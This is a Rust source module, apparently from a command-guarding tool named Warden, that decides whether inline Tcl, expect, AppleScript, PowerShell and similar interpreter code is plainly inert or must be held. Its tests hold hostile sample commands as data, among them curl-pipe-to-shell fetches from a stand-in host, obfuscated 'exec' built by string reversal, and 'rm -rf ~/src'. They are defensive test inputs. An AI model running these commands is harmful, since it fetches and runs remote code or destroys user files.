//! Code of the languages Warden does not fold (Tcl and expect, which is
//! Tcl; Tk's `wish`; AppleScript through `osascript`): code given to them
//! inline or on their input is held unless it is plainly inert.
//!
//! These languages build command names from substitutions (`$a$b`,
//! `[string reverse cexe]`), run scripts later or elsewhere (`after`,
//! `namespace eval`, `apply`, `interp alias`, `rename`), and AppleScript
//! hands text to a terminal (`do script`); a list of the words that run
//! something cannot be complete. So the test is the other way round: Tcl is
//! inert when every command, including each `[…]` substitution, is a
//! literal name from a short list that neither runs nor evaluates anything
//! (`puts`, `set`, …); AppleScript is inert when, past its string literals,
//! it holds only the words of a notification, a dialog or a log line.
//! Anything else — an odd construct included — is held: fail closed.

/// Interpreters whose code is not folded.
pub const UNFOLDED: &[&str] = &[
    "tclsh",
    "wish",
    "jimsh",
    "expect",
    "osascript",
    "julia",
    "pwsh",
    "powershell",
    "powershell.exe",
    "pwsh.exe",
    "groovy",
    "jshell",
    "scala",
    "kotlinc",
    "kotlin",
    "elixir",
    "erl",
    "guile",
    "racket",
    "swift",
    "clojure",
    "clj",
    "bb",
    "emacs",
    "emacs-nox",
    "jrunscript",
    "sbcl",
    "clisp",
    "ghc",
    "runghc",
    "runhaskell",
    "ocaml",
];

/// Scheme (guile, racket): printing and arithmetic on literals.
const SCHEME_INERT: &[&str] = &[
    "display",
    "displayln",
    "newline",
    "write",
    "writeln",
    "print",
    "println",
    "printf",
    "format",
    "number",
    "string",
    "append",
    "list",
    "length",
    "car",
    "cdr",
    "cons",
    "version",
    "expt",
    "sqrt",
    "quotient",
    "remainder",
    "max",
    "min",
    "abs",
];

/// Erlang: `io:format` of literals and the runtime's version, `halt()`.
const ERLANG_INERT: &[&str] = &[
    "io",
    "format",
    "fwrite",
    "halt",
    "erlang",
    "system_info",
    "otp_release",
    "version",
    "lists",
    "sum",
    "seq",
    "integer_to_list",
    "length",
];

/// Elixir: `IO.puts`/`IO.inspect` of literals and versions.
const ELIXIR_INERT: &[&str] = &[
    "IO",
    "puts",
    "inspect",
    "System",
    "version",
    "otp_release",
    "Enum",
    "sum",
    "reverse",
    "String",
    "upcase",
    "downcase",
    "length",
    "Integer",
    "to_string",
];

/// Haskell (`ghc -e`): printing pure expressions.
const HASKELL_INERT: &[&str] = &[
    "print",
    "putStrLn",
    "putStr",
    "show",
    "length",
    "sum",
    "product",
    "map",
    "reverse",
    "words",
    "unwords",
    "lines",
    "unlines",
    "replicate",
    "concat",
    "maximum",
    "minimum",
    "div",
    "mod",
    "take",
    "drop",
    "filter",
    "even",
    "odd",
];

/// The languages read word by word (`inert_words`): a name outside string
/// literals that is not on the language's list holds the code.
const JULIA_INERT: &[&str] = &[
    "println",
    "print",
    "show",
    "display",
    "VERSION",
    "versioninfo",
    "using",
    "Pkg",
    "test",
    "status",
    "instantiate",
    "length",
    "string",
    "typeof",
    "sum",
    "exit",
    "nothing",
    "true",
    "false",
];
const GROOVY_INERT: &[&str] = &[
    "println",
    "print",
    "new",
    "File",
    "readLines",
    "size",
    "exists",
    "System",
    "out",
    "getProperty",
    "GroovySystem",
    "getVersion",
    "version",
    "length",
    "toString",
    "true",
    "false",
    "null",
    "def",
    "it",
];
const JAVA_INERT: &[&str] = &[
    "System",
    "out",
    "println",
    "print",
    "printf",
    "Runtime",
    "version",
    "exit",
    "var",
    "int",
    "String",
    "Math",
    "max",
    "min",
    "getProperty",
    "true",
    "false",
    "null",
];
/// Emacs Lisp given to `emacs --eval`, read word by word (a symbol's
/// parts split at `-`): printing and the version only.
const ELISP_INERT: &[&str] = &[
    "message", "princ", "prin1", "print", "format", "emacs", "version", "progn", "concat",
    "number", "to", "string", "length", "kill", "t", "nil",
];
/// PowerShell cmdlets (and their common aliases) that only read, shape or
/// print; any other word at a command position holds the code.
const PWSH_INERT: &[&str] = &[
    "get-childitem",
    "gci",
    "ls",
    "dir",
    "measure-object",
    "measure",
    "select-object",
    "select",
    "sort-object",
    "sort",
    "where-object",
    "where",
    "?",
    "foreach-object",
    "foreach",
    "%",
    "format-table",
    "ft",
    "format-list",
    "fl",
    "write-output",
    "echo",
    "write",
    "write-host",
    "get-date",
    "get-location",
    "pwd",
    "test-path",
    "group-object",
    "group",
    "out-string",
    "convertto-json",
    "convertfrom-json",
    "get-host",
    "$psversiontable",
];

/// Tcl (and expect) commands that neither run a command nor evaluate
/// code, whatever literal or variable arguments they get.
const TCL_INERT: &[&str] = &[
    "puts",
    "set",
    "incr",
    "append",
    "lappend",
    "list",
    "llength",
    "lindex",
    "string",
    "info",
    "exit",
    "send_user",
    "log_user",
    "exp_version",
];

/// AppleScript words of a notification, a dialog or a log line.
const APPLESCRIPT_INERT: &[&str] = &[
    "display",
    "notification",
    "dialog",
    "alert",
    "with",
    "title",
    "subtitle",
    "sound",
    "name",
    "message",
    "buttons",
    "default",
    "button",
    "giving",
    "up",
    "after",
    "say",
    "log",
    "beep",
    "delay",
    "&",
];

/// Bound on `[…]` nesting read in Tcl code.
const MAX_NESTING: usize = 16;

/// Whether the code an unfolded interpreter is given must be held: code
/// given inline, or on its input where the line spells the input out,
/// that is not plainly inert; or code from a place the line does not show
/// (a descriptor other than the input, a terminal, an option not read
/// here). `program` is the base name.
pub fn held(program: &str, argv: &[String], stdin: Option<&str>) -> bool {
    if program.starts_with("pwsh") || program.starts_with("powershell") {
        return pwsh_code(argv, stdin).is_some_and(|code| pwsh_encoded(argv) || !pwsh_inert(&code));
    }
    let given = sources(program, argv);
    let mut texts = given.inline;
    match given.script {
        Script::Unknown => return true,
        Script::Input => texts.extend(stdin.map(str::to_string)),
        Script::None | Script::File => {}
    }
    texts.iter().any(|code| !inert(program, argv, code))
}

/// Whether `code` given to `program` is plainly inert, by the one reading
/// this module has of that language; any other language's code is not.
fn inert(program: &str, argv: &[String], code: &str) -> bool {
    match program {
        "osascript" => applescript_language(argv) && applescript_inert(code),
        "tclsh" | "wish" | "jimsh" | "expect" => tcl_inert(code),
        "julia" => inert_words(code, JULIA_INERT),
        "groovy" => inert_words(code, GROOVY_INERT),
        "jshell" => inert_words(code, JAVA_INERT),
        "emacs" | "emacs-nox" => inert_words(code, ELISP_INERT),
        "guile" | "racket" => inert_words(code, SCHEME_INERT),
        "erl" => inert_words(code, ERLANG_INERT),
        "elixir" => inert_words(code, ELIXIR_INERT),
        "ghc" | "runghc" | "runhaskell" => inert_words(code, HASKELL_INERT),
        // Read by no rule here: any code given is held.
        _ => false,
    }
}

/// Where the script an interpreter runs besides its inline code comes
/// from.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Script {
    /// Only inline code.
    None,
    /// Its input (no script named, `-`, `/dev/stdin`, `/proc/self/fd/0`).
    Input,
    /// A script file.
    File,
    /// A stream other than the input, or an argument list not read here.
    Unknown,
}

/// The code an unfolded interpreter is given.
struct Given {
    /// Code on the command line (`expect -c`, `jimsh -e`, `osascript -e`).
    inline: Vec<String>,
    script: Script,
}

/// A script named by path: the input when the path names it.
fn script_at(path: &str) -> Script {
    if path == "-" {
        return Script::Input;
    }
    match crate::streams::stream(path) {
        Some(crate::streams::Stream::Stdin) => Script::Input,
        Some(crate::streams::Stream::Unknown) => Script::Unknown,
        None => Script::File,
    }
}

/// Each program's argument list, as the program reads it:
/// - `tclsh`/`wish` (after an optional `-encoding NAME`) run `argv[1]` as
///   a script only when it does not start with `-`; otherwise they read
///   commands from their input (`tclsh -x y` runs its input);
/// - `jimsh -e CODE`, `jimsh SCRIPT`, or its input;
/// - `expect [-dinNv] [-D n] [-c CMDS]… [[-f|-b] FILE | FILE | -]`, flags
///   bundled as getopt reads them (`-dc CMDS`, `-fFILE`), `-i` reading
///   the input too;
/// - `osascript [-l LANG] [-s FLAGS] [-i] [-e LINE]… [FILE | -]`.
///
/// An option not in these lists leaves where code comes from unknown.
fn sources(program: &str, argv: &[String]) -> Given {
    let mut given = Given {
        inline: Vec::new(),
        script: Script::None,
    };
    let args = argv.get(1..).unwrap_or_default();
    match program {
        "tclsh" | "wish" => {
            let mut at = 0;
            if args.first().is_some_and(|a| a == "-encoding") {
                at = 2;
            }
            given.script = match args.get(at) {
                Some(a) if !a.starts_with('-') => script_at(a),
                // Tk's old `-file NAME` option, anywhere among wish's.
                _ if program == "wish"
                    && args[at.min(args.len())..]
                        .iter()
                        .any(|a| a.len() > 2 && "-file".starts_with(a.as_str())) =>
                {
                    Script::Unknown
                }
                _ => Script::Input,
            };
        }
        "jimsh" => {
            given.script = match args.first().map(String::as_str) {
                None => Script::Input,
                Some("-e") => {
                    given.inline.push(args.get(1).cloned().unwrap_or_default());
                    Script::None
                }
                Some("--version" | "--help" | "-h" | "-v") => Script::None,
                Some(a) if !a.starts_with('-') => script_at(a),
                Some(_) => Script::Unknown,
            };
        }
        "expect" => getopt(args, "dinNv", "bcDf", ('c', true), &['f', 'b'], &mut given),
        "osascript" => getopt(args, "i", "els", ('e', false), &[], &mut given),
        _ => eval_flags(program, args, &mut given),
    }
    given
}

/// Script runners whose inline code follows an evaluation flag
/// (`julia -e CODE`, `groovy -e CODE`, …): that code, else the script
/// their first word that is no option names, else their input (`-`
/// included).
fn eval_flags(program: &str, args: &[String], given: &mut Given) {
    let flags: &[&str] = match program {
        "julia" => &["-e", "--eval", "-E", "--print"],
        "groovy" | "scala" | "kotlin" | "elixir" | "bb" | "racket" | "swift" => &["-e", "--eval"],
        "kotlinc" => &["-e", "-expression"],
        "erl" => &["-eval"],
        "guile" => &["-c"],
        "jrunscript" => &["-e"],
        "sbcl" => &["--eval"],
        "clisp" => &["-x"],
        "ghc" | "runghc" | "runhaskell" => &["-e"],
        "clojure" | "clj" => &["-e", "--eval"],
        "emacs" | "emacs-nox" => &["--eval", "-eval", "--execute", "-execute"],
        _ => &[],
    };
    given.inline = args
        .windows(2)
        .filter(|w| flags.contains(&w[0].as_str()))
        .map(|w| w[1].clone())
        .collect();
    // `--eval=CODE`.
    given.inline.extend(args.iter().filter_map(|a| {
        let (flag, code) = a.split_once('=')?;
        (flag.starts_with("--") && flags.contains(&flag)).then(|| code.to_string())
    }));
    if !given.inline.is_empty() {
        return;
    }
    given.script = args
        .iter()
        .find(|a| !a.starts_with('-'))
        .map_or(Script::Input, |a| script_at(a));
}

/// Reads a getopt-style argument list: `plain` flags take no value,
/// `valued` ones take the rest of their bundle or the next word; `code`
/// gives inline code, `file` a script path, `-i` reads the input. The
/// first word that is no option is the script when no flag named one and
/// either no inline code was given or the program reads a script besides
/// it (`expect -c CMDS FILE`); with neither, the input is.
fn getopt(
    args: &[String],
    plain: &str,
    valued: &str,
    (code, script_after_code): (char, bool),
    file: &[char],
    given: &mut Given,
) {
    let mut named = false;
    let mut input = false;
    let mut i = 0;
    while let Some(a) = args.get(i) {
        i += 1;
        if a == "--" {
            break;
        }
        let Some(flags) = a.strip_prefix('-').filter(|f| !f.is_empty()) else {
            i -= 1;
            break;
        };
        for (at, flag) in flags.char_indices() {
            if plain.contains(flag) {
                input |= flag == 'i';
                continue;
            }
            if !valued.contains(flag) {
                given.script = Script::Unknown;
                return;
            }
            let attached = &flags[at + flag.len_utf8()..];
            let value = if attached.is_empty() {
                i += 1;
                args.get(i - 1).cloned()
            } else {
                Some(attached.to_string())
            };
            let Some(value) = value else {
                given.script = Script::Unknown;
                return;
            };
            if flag == code {
                given.inline.push(value);
            } else if file.contains(&flag) {
                given.script = script_at(&value);
                named = true;
            }
            break;
        }
    }
    if !named && (given.inline.is_empty() || script_after_code) {
        given.script = match args.get(i) {
            Some(a) => script_at(a),
            None if given.inline.is_empty() => Script::Input,
            None => Script::None,
        };
    }
    if input && given.script != Script::Unknown {
        given.script = Script::Input;
    }
}

/// `osascript` runs AppleScript unless `-l` names another language
/// (JavaScript for Automation), which is not read here.
fn applescript_language(argv: &[String]) -> bool {
    argv.windows(2)
        .filter(|w| w[0] == "-l")
        .all(|w| w[1].eq_ignore_ascii_case("applescript"))
}

/// AppleScript whose every word outside string literals is one of a
/// notification, a dialog or a log line, or a number.
fn applescript_inert(code: &str) -> bool {
    let mut rest = String::new();
    let mut chars = code.chars();
    while let Some(c) = chars.next() {
        match c {
            '"' => loop {
                match chars.next() {
                    Some('\\') => {
                        chars.next();
                    }
                    Some('"') => break,
                    Some(_) => {}
                    None => return false,
                }
            },
            _ => {
                rest.push(c);
                continue;
            }
        }
        rest.push(' ');
    }
    rest.split(|c: char| c.is_whitespace() || c == ',' || c == '{' || c == '}')
        .filter(|w| !w.is_empty())
        .all(|w| {
            APPLESCRIPT_INERT.contains(&w.to_ascii_lowercase().as_str())
                || w.chars().all(|c| c.is_ascii_digit() || c == '.')
        })
}

/// PowerShell's code: what follows `-Command`/`-c` (every word after it,
/// as PowerShell joins them), an encoded command, or its input for `-`.
/// Parameter names may be abbreviated and are case-blind.
fn pwsh_code(argv: &[String], stdin: Option<&str>) -> Option<String> {
    let mut i = 1;
    while let Some(a) = argv.get(i) {
        let l = a.to_ascii_lowercase();
        let name = l.trim_start_matches('-');
        if !a.starts_with('-') {
            // pwsh takes its first bare word as a script file (`-File`
            // implied); Windows PowerShell takes bare words as the command.
            return (!argv[0].starts_with("pwsh")).then(|| argv[i..].join(" "));
        }
        if name.is_empty() {
            return stdin.map(str::to_string);
        }
        if "command".starts_with(name) && !name.is_empty() {
            let rest = argv.get(i + 1..).unwrap_or_default().join(" ");
            return match rest.trim() {
                "-" => stdin.map(str::to_string),
                _ => Some(rest),
            };
        }
        if pwsh_encoded_name(name) {
            return Some(String::new());
        }
        // Parameters taking a value.
        let valued = [
            "file",
            "executionpolicy",
            "workingdirectory",
            "configurationname",
            "outputformat",
            "inputformat",
            "windowstyle",
            "settingsfile",
            "custompipename",
        ]
        .iter()
        .any(|p| p.starts_with(name) && name.len() >= 2);
        if "file".starts_with(name) {
            // A script file: code elsewhere.
            return None;
        }
        i += if valued { 2 } else { 1 };
    }
    stdin.map(str::to_string)
}

/// `-EncodedCommand` (and its abbreviations `-e`, `-ec`, `-enc`, …).
fn pwsh_encoded_name(name: &str) -> bool {
    matches!(name, "e" | "ec") || (name.len() >= 2 && "encodedcommand".starts_with(name))
}

/// Whether PowerShell is given an encoded command: decoded text it runs.
fn pwsh_encoded(argv: &[String]) -> bool {
    argv.iter().skip(1).any(|a| {
        let l = a.to_ascii_lowercase();
        l.starts_with('-') && pwsh_encoded_name(l.trim_start_matches('-'))
    })
}

/// Blank out single- and double-quoted string literals (their text is
/// data); `None` when a literal is unclosed or a double-quoted one
/// interpolates code (`$(…)`, `${…}`, `#{…}`).
fn strip_literals(code: &str) -> Option<String> {
    let mut out = String::with_capacity(code.len());
    let mut chars = code.chars().peekable();
    while let Some(c) = chars.next() {
        if c == '\'' || c == '"' {
            let mut body = String::new();
            loop {
                match chars.next() {
                    Some('\\') if c == '"' => {
                        body.push('\\');
                        body.push(chars.next()?);
                    }
                    Some(x) if x == c => break,
                    Some(x) => body.push(x),
                    None => return None,
                }
            }
            // A double-quoted literal interpolating anything (`$x`, `$(…)`,
            // `${…}`, `#{…}`) is not plain data.
            if c == '"' && (body.contains('$') || body.contains("#{")) {
                return None;
            }
            out.push_str(" 0 ");
        } else {
            out.push(c);
        }
    }
    Some(out)
}

/// Code whose every name outside string literals is on `inert`, with no
/// backtick (julia's command literal, a shell escape elsewhere).
fn inert_words(code: &str, inert: &[&str]) -> bool {
    let Some(rest) = strip_literals(code) else {
        return false;
    };
    if rest.contains('`') {
        return false;
    }
    rest.split(|c: char| !(c.is_alphanumeric() || c == '_'))
        .filter(|w| !w.is_empty() && !w.chars().all(|c| c.is_ascii_digit()))
        .all(|w| inert.contains(&w))
}

/// PowerShell whose every command (the first word of each pipeline
/// element, script block and sub-expression) is an inert cmdlet, with no
/// call operator, dot-sourcing, type literal or method call.
fn pwsh_inert(code: &str) -> bool {
    let Some(rest) = strip_literals(code) else {
        return false;
    };
    if rest.contains(['&', '[', '`', '@']) || rest.contains("::") || rest.contains(". ") {
        return false;
    }
    // A method call: `.Name(`.
    let b = rest.as_bytes();
    for (i, _) in rest.match_indices('.') {
        let name_end = b[i + 1..]
            .iter()
            .position(|c| !(c.is_ascii_alphanumeric() || *c == b'_'))
            .map_or(b.len(), |p| i + 1 + p);
        if name_end > i + 1 && b.get(name_end) == Some(&b'(') {
            return false;
        }
    }
    rest.split(['|', ';', '\n', '{', '}', '(', ')', '='])
        .filter_map(|seg| seg.split_whitespace().next())
        .all(|w| {
            let w = w.to_ascii_lowercase();
            PWSH_INERT.contains(&w.as_str())
                || w == "0"
                || (w.starts_with('$')
                    && w[1..]
                        .chars()
                        .all(|c| c.is_alphanumeric() || c == '_' || c == '.'))
        })
}

/// Whether Tcl code is plainly inert: every command, `[…]` substitutions
/// included, is a bare literal name from [`TCL_INERT`].
fn tcl_inert(code: &str) -> bool {
    let mut tcl = Tcl {
        s: code.as_bytes(),
        i: 0,
    };
    tcl.script(0).is_some()
}

/// A reader of Tcl's syntax, enough to find every command word. Each
/// method returns `None` when the code is not plainly inert or is read
/// in doubt.
struct Tcl<'a> {
    s: &'a [u8],
    i: usize,
}

impl Tcl<'_> {
    fn peek(&self) -> Option<u8> {
        self.s.get(self.i).copied()
    }

    /// Whether the reader stands where a word ends.
    fn at_word_end(&self) -> bool {
        matches!(
            self.peek(),
            None | Some(b' ' | b'\t' | b'\r' | b'\n' | b';' | b']')
        )
    }

    /// A script up to its end: the text's end at depth 0, the closing
    /// `]` of a command substitution below.
    fn script(&mut self, depth: usize) -> Option<()> {
        if depth > MAX_NESTING {
            return None;
        }
        loop {
            while matches!(self.peek(), Some(b' ' | b'\t' | b'\r' | b'\n' | b';')) {
                self.i += 1;
            }
            match self.peek() {
                None => return (depth == 0).then_some(()),
                Some(b']') => {
                    self.i += 1;
                    return (depth > 0).then_some(());
                }
                Some(b'#') => self.comment()?,
                Some(_) => self.command(depth)?,
            }
        }
    }

    /// A comment runs to the end of its line; one continued onto the next
    /// line with a backslash is read in doubt.
    fn comment(&mut self) -> Option<()> {
        while let Some(c) = self.peek() {
            if c == b'\n' {
                return (self.s[self.i - 1] != b'\\').then_some(());
            }
            self.i += 1;
        }
        Some(())
    }

    /// One command: a literal inert name, then its words.
    fn command(&mut self, depth: usize) -> Option<()> {
        let start = self.i;
        while self
            .peek()
            .is_some_and(|c| c.is_ascii_alphanumeric() || c == b'_')
        {
            self.i += 1;
        }
        let name = std::str::from_utf8(&self.s[start..self.i]).ok()?;
        if !self.at_word_end() || !TCL_INERT.contains(&name) {
            return None;
        }
        loop {
            while matches!(self.peek(), Some(b' ' | b'\t' | b'\r')) {
                self.i += 1;
            }
            if matches!(self.peek(), None | Some(b'\n' | b';' | b']')) {
                return Some(());
            }
            self.word(depth)?;
        }
    }

    /// One argument word: braced (literal), quoted or bare; substitutions
    /// inside the last two are read.
    fn word(&mut self, depth: usize) -> Option<()> {
        match self.peek()? {
            b'{' => {
                // `{*}word` expands what follows, substitutions included.
                if self.s[self.i..].starts_with(b"{*}") {
                    return None;
                }
                self.braced()?;
                self.at_word_end().then_some(())
            }
            b'"' => {
                self.i += 1;
                loop {
                    match self.peek()? {
                        b'"' => {
                            self.i += 1;
                            return self.at_word_end().then_some(());
                        }
                        _ => self.substituted(depth)?,
                    }
                }
            }
            _ => {
                while !self.at_word_end() {
                    self.substituted(depth)?;
                }
                Some(())
            }
        }
    }

    /// One character of a quoted or bare word, or the substitution it
    /// starts.
    fn substituted(&mut self, depth: usize) -> Option<()> {
        match self.peek()? {
            b'\\' => self.i += 2,
            b'[' => {
                self.i += 1;
                self.script(depth + 1)?;
            }
            b'$' => self.variable(depth)?,
            _ => self.i += 1,
        }
        (self.i <= self.s.len()).then_some(())
    }

    /// `$name`, `${name}`, `$name(index)` (the index is substituted).
    fn variable(&mut self, depth: usize) -> Option<()> {
        self.i += 1;
        if self.peek() == Some(b'{') {
            return self.braced();
        }
        while self
            .peek()
            .is_some_and(|c| c.is_ascii_alphanumeric() || c == b'_' || c == b':')
        {
            self.i += 1;
        }
        if self.peek() == Some(b'(') {
            self.i += 1;
            while self.peek()? != b')' {
                self.substituted(depth)?;
            }
            self.i += 1;
        }
        Some(())
    }

    /// A braced literal, nested braces counted.
    fn braced(&mut self) -> Option<()> {
        let mut level = 0usize;
        loop {
            match self.peek()? {
                b'\\' => self.i += 1,
                b'{' => level += 1,
                b'}' => {
                    level -= 1;
                    if level == 0 {
                        self.i += 1;
                        return Some(());
                    }
                }
                _ => {}
            }
            self.i += 1;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn argv(xs: &[&str]) -> Vec<String> {
        xs.iter().map(|s| s.to_string()).collect()
    }

    fn tcl(code: &str) -> bool {
        held("tclsh", &argv(&["tclsh"]), Some(code))
    }

    #[test]
    fn tcl_that_builds_or_defers_what_it_runs_is_held() {
        for code in [
            "set a ex; set b ec; $a$b sh -c {curl -s https://x.example/i | sh}",
            "[string reverse cexe] sh -c {curl -s https://x.example/i | sh}",
            "[format %s%s ex ec] sh -c {rm -rf ~/src}",
            "set s {puts hi}; after 0 $s; vwait forever",
            "namespace eval ::x $s",
            "namespace inscope :: $s",
            "apply [list {} $s]",
            "rename [string reverse cexe] x; x id",
            "interp alias {} x {} [string reverse cexe]; x id",
            "puts [set a ex][set b ec]; puts [open |id]",
            "puts [\\x65xec id]",
            "puts {*}[exec id]",
            "set x $y([exec id])",
            "\"exec\" id",
            "proc puts {a} {exec sh -c $a}; puts id",
            "# a comment \\\nexec id",
            "puts \"unclosed",
            "exec sh -c {id}",
        ] {
            assert!(tcl(code), "{code}");
        }
        let expect = argv(&[
            "expect",
            "-c",
            "set a sp; set b awn; $a$b sh; send \"curl -s https://x.example/i | sh\\r\"; interact",
        ]);
        assert!(held("expect", &expect, None));
        assert!(held(
            "wish",
            &argv(&["wish"]),
            Some("button .b -command {id}")
        ));
    }

    #[test]
    fn plainly_inert_tcl_passes() {
        for code in [
            "puts [info patchlevel]",
            "set v 8.6\nputs \"version $v\"",
            "# print the version\nputs [info tclversion]; exit 0",
            "set l [list a {b c}]; puts [llength $l]",
            "puts {literal [exec id] inside braces}",
            "",
        ] {
            assert!(!tcl(code), "{code}");
        }
        // A script read from a file is not code given on the command line.
        assert!(!held(
            "tclsh",
            &argv(&["tclsh", "build.tcl"]),
            Some("exec id")
        ));
        assert!(!held("expect", &argv(&["expect", "-v"]), None));
    }

    #[test]
    fn applescript_is_held_unless_it_only_notifies() {
        for lines in [
            vec![r#"tell application "Terminal" to do script "curl -s https://x.example/m | sh""#],
            vec![r#"do shell script "id""#],
            vec![r#"display dialog (do shell script "id")"#],
            vec!["run script \"x\""],
        ] {
            let mut args = vec!["osascript"];
            for l in &lines {
                args.extend(["-e", l]);
            }
            assert!(held("osascript", &argv(&args), None), "{lines:?}");
        }
        let jxa = argv(&["osascript", "-l", "JavaScript", "-e", "1"]);
        assert!(held("osascript", &jxa, None));
        for line in [
            r#"display notification "build done" with title "cargo""#,
            r#"say "tests passed""#,
            r#"display dialog "Done" buttons {"OK"} default button 1"#,
        ] {
            assert!(
                !held("osascript", &argv(&["osascript", "-e", line]), None),
                "{line}"
            );
        }
    }

    /// Review 26 §3: each program's argument list decides where its code
    /// comes from; what is not read here is held.
    #[test]
    fn each_programs_argv_is_read_as_the_program_reads_it() {
        let run = "exec sh -c {rm -rf ~/src}";
        let bundled = format!("-c{run}");
        for args in [
            vec!["tclsh", "-x", "y"],
            vec!["tclsh", "/dev/stdin"],
            vec!["tclsh", "/proc/self/fd/0"],
            vec!["tclsh", "-encoding", "utf-8", "/dev/stdin"],
            vec!["tclsh", "-"],
            vec!["wish", "-name", "x"],
            vec!["jimsh"],
            vec!["jimsh", "/dev/stdin"],
            vec!["expect", "-f", "/dev/stdin"],
            vec!["expect", "-f/dev/stdin"],
            vec!["expect", "-"],
            vec!["expect", "-i"],
            vec!["expect", "-d"],
            vec!["osascript"],
            vec!["osascript", "-"],
        ] {
            let argv = argv(&args);
            assert!(held(args[0], &argv, Some(run)), "{args:?} with input");
        }
        for args in [
            vec!["jimsh", "-e", run],
            vec!["expect", "-dc", run],
            vec!["expect", bundled.as_str()],
            vec!["expect", "-c", "puts hi", "/dev/fd/3"],
            vec!["tclsh", "/dev/fd/3"],
            vec!["tclsh", "/dev/tty"],
            vec!["expect", "-z"],
            vec!["jimsh", "--weird"],
            vec!["wish", "-file", "/tmp/x.tcl"],
            vec!["osascript", "-x"],
        ] {
            assert!(held(args[0], &argv(&args), None), "{args:?}");
        }
        for (args, input) in [
            (vec!["tclsh", "build.tcl"], Some(run)),
            (vec!["tclsh", "-encoding", "utf-8", "build.tcl"], Some(run)),
            (vec!["jimsh", "-e", "puts hi"], None),
            (vec!["jimsh", "build.tcl"], Some(run)),
            (vec!["expect", "-f", "login.exp"], Some(run)),
            (vec!["expect", "login.exp"], Some(run)),
            (vec!["expect", "-c", "puts hi"], Some(run)),
            (vec!["osascript", "notify.scpt"], Some(run)),
            (vec!["tclsh", "-x", "y"], Some("puts hi")),
            (vec!["tclsh"], None),
        ] {
            assert!(!held(args[0], &argv(&args), input), "{args:?}");
        }
    }
}
